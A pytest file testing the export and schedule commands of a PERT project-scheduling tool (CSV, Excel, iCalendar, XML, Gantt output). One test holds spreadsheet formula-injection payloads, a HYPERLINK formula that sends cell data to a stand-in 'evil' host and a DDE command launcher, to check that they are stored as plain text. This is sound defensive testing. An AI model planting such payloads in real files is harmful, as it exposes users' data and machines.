"""`pert-export` and `pert-schedule`: one row for each real task, real numbers and dates."""

import csv
import io
import shutil
from dataclasses import dataclass, replace
from datetime import date, datetime
from pathlib import Path

import pytest
from icalendar import Calendar as ICalendar
from openpyxl import Workbook, load_workbook

from running import EXAMPLES, opened
from pert_companion.analysis.performance import performance
from pert_companion.carry import CarryOptions
from pert_companion.cli import exporting, schedule as showing
from pert_companion.cli.common import run_command
from pert_companion.cli.opening import opened as states
from pert_companion.cli.writing import deck_outputs
from pert_companion.importing.conversion import import_plan, read_source
from pert_companion.model.figures import days_text
from pert_companion.model.output import Outputs
from pert_companion.model.plan import Lag, Link, LinkKind
from pert_companion.programs.client import Programs
from pert_companion.readers.base import ReaderOptions
from pert_companion.writers.text import fitted, shown, text_width
from planner_files import mspdi_bytes
from sample_plan import sample_plan

CASES = Path(__file__).parent.parent / "cases"
PROGRAMS = Programs()
Capture = pytest.CaptureFixture[str]


@dataclass(frozen=True)
class Outcome:
    """What a command did."""

    status: int
    output: str
    error: str


def run(capture: Capture, command: object, *words: object) -> Outcome:
    """Runs one of the two commands in this process."""
    capture.readouterr()
    module = exporting if command == "export" else showing
    status = run_command(module.NAME, module.parser(), module.run, [str(w) for w in words])
    captured = capture.readouterr()
    for line in captured.err.split("\n")[:-1]:
        assert line.startswith(f"{module.NAME}: ")
    return Outcome(status, captured.out, captured.err)


@pytest.fixture(name="wing", scope="module")
def fixture_wing(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Returns a deck of 60 tasks with its side file; a task is in parts because of a lead."""
    folder = tmp_path_factory.mktemp("wing")
    original = folder / "plan.xml"
    plan = sample_plan()
    lead = Link("64", "66", LinkKind.FINISH_START, Lag(-480))
    links = tuple(link for link in plan.links if link.successor != "66")
    plan = replace(plan, links=(*links, lead))
    original.write_bytes(mspdi_bytes(plan))
    deck = folder / "wing.csv"
    made = import_plan(read_source(original), ReaderOptions(), CarryOptions(), deck)
    Outputs().write(*deck_outputs(deck, made.carried.data, made.side))
    return deck


def export(capture: Capture, deck: Path, ending: str, *words: object) -> bytes:
    """Returns the file that a deck is exported to."""
    target = deck.parent / f"out{ending}"
    done = run(capture, "export", deck, "-o", target, *words)
    assert done.status == 0, done.error
    assert f"{target}: " in done.error
    return target.read_bytes()


def shortest(deck: Path) -> int:
    """Returns the shortest length of a deck."""
    curve = PROGRAMS.curve(PROGRAMS.network(opened(deck).deck))
    return min(point.length for point in curve)


def rows_of(data: bytes) -> list[dict[str, str]]:
    """Returns the rows of a CSV file."""
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_csv_has_one_row_a_task(wing: Path, capsys: Capture) -> None:
    """60 rows, though the deck has parts and waits; durations are those of whole tasks."""
    assert wing.read_text().count("\nTASK,") > 60
    length = shortest(wing)
    rows = rows_of(export(capsys, wing, ".csv", "--length", length))
    assert len(rows) == 60
    plan = {task.uid: task for task in sample_plan().tasks()}
    assert {row["Id"]: row["Normal days"] for row in rows} == {
        uid: str(task.minutes // 480) for uid, task in plan.items()
    }
    shorter = 0
    for row in rows:
        crash = plan[row["Id"]].crash
        least = crash.minutes // 480 if crash is not None else int(row["Normal days"])
        assert least <= int(row["Days"]) <= int(row["Normal days"])
        shorter += int(row["Days"]) < int(row["Normal days"])
        assert date.fromisoformat(row["Start"]) <= date.fromisoformat(row["Finish"])
    assert shorter > 0
    assert rows[1]["Predecessors"] == "T2" and rows[0]["Outline"] == "Floor 1"


def test_a_length_that_does_not_exist(wing: Path, capsys: Capture) -> None:
    """Both commands say which lengths there are, and nothing is written."""
    least = shortest(wing)
    target = wing.parent / "none.csv"
    for length in (3, least - 1, 10_000):
        for command, words in (("schedule", ()), ("export", ("-o", target))):
            done = run(capsys, command, wing, "--length", length, *words)
            assert (done.status, done.output) == (1, "")
            assert f"no schedule of {length} days: the shortest has {least} days" in done.error
            assert done.error.count("\n") == 1
    assert not target.exists()


def book_of(data: bytes) -> Workbook:
    """Returns a workbook as openpyxl reads it."""
    return load_workbook(io.BytesIO(data))


def test_workbook(wing: Path, capsys: Capture) -> None:
    """Sheets with frozen heads, real dates and numbers, and a chart of the curve."""
    book = book_of(export(capsys, wing, ".xlsx", "--normal"))
    assert book.sheetnames == ["Schedule", "Curve", "Summary", "Value", "Load"]
    assert all(sheet.freeze_panes == "A2" for sheet in book)
    sheet = book["Schedule"]
    assert sheet.max_row == 61
    head = {cell.value: cell.column for cell in sheet[1]}
    for row in range(2, 62):
        assert isinstance(sheet.cell(row, head["Start"]).value, datetime)
        assert isinstance(sheet.cell(row, head["Normal days"]).value, int)
        assert isinstance(sheet.cell(row, head["Cost"]).value, int)
        assert isinstance(sheet.cell(row, head["Name"]).value, str)
    curve = book["Curve"]
    assert len(curve._charts) == 1
    lengths = [curve.cell(row, 1).value for row in range(2, curve.max_row + 1)]
    assert lengths == sorted(lengths, reverse=True) or lengths == sorted(lengths)
    costs = [sheet.cell(row, head["Cost"]).value for row in range(2, 62)]
    chosen = [curve.cell(row, 4).value for row in range(2, curve.max_row + 1)]
    assert sum(costs) in chosen
    load = book["Load"]
    assert isinstance(load.cell(2, 1).value, datetime)
    assert sum(load.cell(row, 2).value for row in range(2, load.max_row + 1)) == sum(costs)


def test_workbook_of_a_running_project(capsys: Capture, tmp_path: Path) -> None:
    """It has the earned value by the deck's own plan, as pert-compare has it."""
    deck = EXAMPLES / "pump" / "march.csv"
    for path in deck.parent.glob("*.csv"):
        shutil.copy(path, tmp_path)
    shutil.copy(deck.with_suffix(".json"), tmp_path)
    book = book_of(export(capsys, tmp_path / "march.csv", ".xlsx"))
    assert book.sheetnames[5:] == ["Earned value", "By account"]
    (state,) = states([deck], PROGRAMS)
    found = performance(state, state)
    for name, lines in (
        ("Earned value", (*found.structure, *found.totals)),
        ("By account", found.accounts),
    ):
        rows = list(book[name].values)[1:]
        assert [row[0] or "" for row in rows] == [line.code for line in lines]
        for column, figure in ((5, "bac"), (6, "pv"), (7, "ev"), (8, "ac")):
            amounts = [getattr(line.figures, figure) for line in lines]
            assert [round(row[column] * 100) for row in rows] == amounts


def test_formulas_stay_text(capsys: Capture, tmp_path: Path) -> None:
    """Titles that begin like formulas are text in a workbook and in CSV."""
    deck = tmp_path / "formula.csv"
    deck.write_bytes((CASES / "formula.csv").read_bytes())
    titles = {
        '=HYPERLINK("http://evil/?"&A1,"Dig")',
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "+1+1",
    }
    sheet = book_of(export(capsys, deck, ".xlsx"))["Schedule"]
    head = {cell.value: cell.column for cell in sheet[1]}
    cells = [sheet.cell(row, head["Name"]) for row in range(2, 5)]
    assert {cell.value for cell in cells} == titles
    assert {cell.data_type for cell in cells} == {"s"}
    names = {row["Name"] for row in rows_of(export(capsys, deck, ".csv"))}
    assert names == {f"'{title}" for title in titles}


def test_negative_numbers_are_numbers(wing: Path, capsys: Capture) -> None:
    """Only texts are protected in CSV: a number that begins with a minus sign stays one."""
    for row in rows_of(export(capsys, wing, ".csv")):
        assert not row["Float days"].startswith("'")


@pytest.mark.parametrize("name", ("icode", "ititle", "formula"))
def test_icalendar(name: str, capsys: Capture, tmp_path: Path) -> None:
    """A code or title with a line break makes no entry of its own."""
    deck = tmp_path / "deck.csv"
    deck.write_bytes((CASES / f"{name}.csv").read_bytes())
    target = tmp_path / "out.ics"
    done = run(capsys, "export", deck, "-o", target)
    if done.status:
        assert done.error.count("\n") == 1 and not target.exists()
        return
    data = target.read_bytes()
    events = ICalendar.from_ical(data).walk("VEVENT")
    assert len(events) == 3
    assert data.count(b"BEGIN:VEVENT\r\n") == 3
    assert all(line.endswith(b"\r") for line in data.split(b"\n")[:-1])


def test_icalendar_days(wing: Path, capsys: Capture) -> None:
    """Entries are whole days, the end is the day after the last one, ids stay the same."""
    data = export(capsys, wing, ".ics")
    assert data == export(capsys, wing, ".ics")
    events = ICalendar.from_ical(data).walk("VEVENT")
    assert len(events) == 60 and len({str(event["uid"]) for event in events}) == 60
    rows = rows_of(export(capsys, wing, ".csv"))
    for event, row in zip(events, rows):
        assert event.decoded("dtstart") == date.fromisoformat(row["Start"])
        last = date.fromisoformat(row["Finish"])
        assert (event.decoded("dtend") - last).days == 1
        assert str(event["summary"]) == row["Name"]


def test_into_the_original(wing: Path, capsys: Capture) -> None:
    """The original is changed; one that lacks a task gives status 1 and names it."""
    original = wing.parent / "plan.xml"
    length = shortest(wing)
    data = export(capsys, wing, ".xml", "--into", original, "--length", length)
    assert data.count(b"<Task>") + data.count(b"<ns0:Task>") == 73
    lacking = wing.parent / "lacking.xml"
    lacking.write_bytes(original.read_bytes().replace(b"<UID>60</UID>", b"<UID>600</UID>"))
    done = run(capsys, "export", wing, "-o", wing.parent / "x.xml", "--into", lacking)
    assert done.status == 1 and "no task with UID 60" in done.error
    assert export(capsys, wing, ".xml").startswith(b"<?xml")


def test_wrong_words(wing: Path, capsys: Capture, tmp_path: Path) -> None:
    """Wrong endings and originals are refused, and nothing is written."""
    target = tmp_path / "out.doc"
    assert run(capsys, "export", wing, "-o", target).status == 2
    assert run(capsys, "export", wing, "-o", tmp_path / "o.csv", "--into", wing).status == 2
    lone = tmp_path / "lone.csv"
    lone.write_bytes(wing.read_bytes())
    plan = wing.parent / "plan.xml"
    done = run(capsys, "export", lone, "-o", tmp_path / "o.xml", "--into", plan)
    assert done.status == 1 and "without its side file" in done.error
    done = run(capsys, "export", wing, "-o", tmp_path / "o.xml", "--into", wing)
    assert done.status == 1 and f"{wing}: a deck already" in done.error
    done = run(capsys, "export", wing, "-o", tmp_path / "o.xer", "--into", plan)
    assert done.status == 2 and "plan.xml writes .xml" in done.error
    assert not any(path.name.startswith("o") for path in tmp_path.iterdir())
    assert run(capsys, "export", wing, "-o", tmp_path / "o.xml", "--length", "1").status == 1


def test_schedule_table(wing: Path, capsys: Capture) -> None:
    """The table has a line a task, sorted by start; a pipe gets plain text."""
    done = run(capsys, "schedule", wing)
    lines = done.output.split("\n")[:-1]
    assert done.status == 0 and len(lines) == 62 and "\x1b" not in done.output
    starts = [line.split()[2] for line in lines[2:]]
    assert starts == sorted(starts)
    critical = run(capsys, "schedule", wing, "--critical").output.split("\n")[:-1]
    assert 2 < len(critical) < 62
    assert all(" * " in line or line.count("*") for line in critical[2:])
    ordered = run(capsys, "schedule", wing, "--order", "plan").output.split("\n")[2:-1]
    assert [line.split()[0] for line in ordered][:3] == ["2", "3", "4"]


def test_schedule_selections(wing: Path, capsys: Capture) -> None:
    """Days ahead, resources, and the same choice in CSV."""
    near = rows_of(run(capsys, "schedule", wing, "--next", "1w", "--csv").output.encode())
    assert 0 < len(near) < 60
    assert all(date.fromisoformat(row["Start"]) <= date(2026, 3, 8) for row in near)
    one = rows_of(run(capsys, "schedule", wing, "--next", "1d", "--csv").output.encode())
    assert {row["Start"] for row in one} == {"2026-03-02"}
    done = run(capsys, "schedule", wing, "--resource", "Nobody")
    assert done.status == 2 and "Nobody" in done.error
    assert run(capsys, "schedule", wing, "--next", "soon").status == 2


def test_gantt(wing: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    """Bars begin where tasks begin; a terminal has its width, and colours unless NO_COLOR."""
    lines = run(capsys, "schedule", wing, "--gantt").output.split("\n")[2:-1]
    assert all("#" in line or "+" in line for line in lines)
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    monkeypatch.setenv("COLUMNS", "120")
    coloured = run(capsys, "schedule", wing, "--gantt").output
    assert "\x1b[1;31m" in coloured
    monkeypatch.setenv("NO_COLOR", "1")
    plain = run(capsys, "schedule", wing, "--gantt").output
    assert "\x1b" not in plain
    assert max(text_width(line) for line in plain.split("\n")[1:]) <= 120


def test_text_of_names() -> None:
    """Control characters, direction marks and wide characters keep to their columns."""
    assert shown("a\u202eb\x1b[31m\u2028") == "a\\u202eb\\u001b[31m\\u2028"
    assert text_width("漢字e\u0301") == 5
    assert fitted("漢字漢字", 5) == "漢.. "
    assert fitted("abc", 5) == "abc  "


EXAMPLES = Path(__file__).resolve().parents[3] / "examples"


@pytest.mark.parametrize(
    ("minutes", "text"),
    ((480, "1"), (240, "0.5"), (-120, "-0.25"), (0, "0"), (160, "0.33"), (-960, "-2")),
)
def test_days_in_csv(minutes: int, text: str) -> None:
    """Days have at most two decimals, and a sign."""
    assert days_text(minutes, 480) == text


def test_decks_written_by_hand(capsys: Capture) -> None:
    """A network without a side file: activities with predecessors through dummies, every day."""
    deck = EXAMPLES / "house.csv"
    normal = rows_of(run(capsys, "schedule", deck, "--plan", "--csv").output.encode())
    words = ("--plan", "--length", shortest(deck), "--csv")
    best = rows_of(run(capsys, "schedule", deck, *words).output.encode())
    codes = {row["Code"] for row in normal}
    assert len(normal) == len(best) == len(codes)
    days = sum(int(row["Days"]) for row in normal)
    assert sum(int(row["Days"]) for row in best) < days
    before = {row["Code"]: row["Predecessors"].split("; ") for row in normal}
    finish = {row["Code"]: row["Finish"] for row in normal}
    start = {row["Code"]: row["Start"] for row in normal}
    links = 0
    for code, found in before.items():
        for earlier in filter(None, found):
            assert earlier in codes and finish[earlier] < start[code]
            links += 1
    assert links >= len(normal) // 2


def test_tasks_of_a_resource(capsys: Capture) -> None:
    """The tasks of one resource alone."""
    deck = EXAMPLES / "house.csv"
    every = rows_of(run(capsys, "schedule", deck, "--csv").output.encode())
    names = sorted(filter(None, "; ".join(row["Resources"] for row in every).split("; ")))
    assert names
    some = rows_of(run(capsys, "schedule", deck, "--resource", names[0], "--csv").output.encode())
    assert [row["Code"] for row in some] == [
        row["Code"] for row in every if names[0] in row["Resources"].split("; ")
    ]


@pytest.mark.parametrize("ending", [".xml", ".xlsx"])
def test_titles_that_a_format_cannot_hold(tmp_path: Path, capfd: Capture, ending: str) -> None:
    """A character that XML cannot hold is replaced, and the card is named; one is U+FFFD itself."""
    deck = tmp_path / "t.csv"
    deck.write_bytes((Path(__file__).parents[1] / "cases" / "titles.csv").read_bytes())
    done = run(capfd, "export", deck, "-o", tmp_path / f"out{ending}")
    assert done.status == 0, done.error
    assert "Fit-windows: its title has U+FFFF, which is U+FFFD in the file" in done.error
    assert "Pipes: its title has U+FFFE, which is U+FFFD in the file" in done.error
    if ending == ".xlsx":
        cells = load_workbook(tmp_path / "out.xlsx")["Schedule"]["E"]
        assert [cell.value for cell in cells].count("\ufffd") == 3
    else:
        assert (tmp_path / "out.xml").read_text("utf-8").count("<Name>\ufffd</Name>") == 3
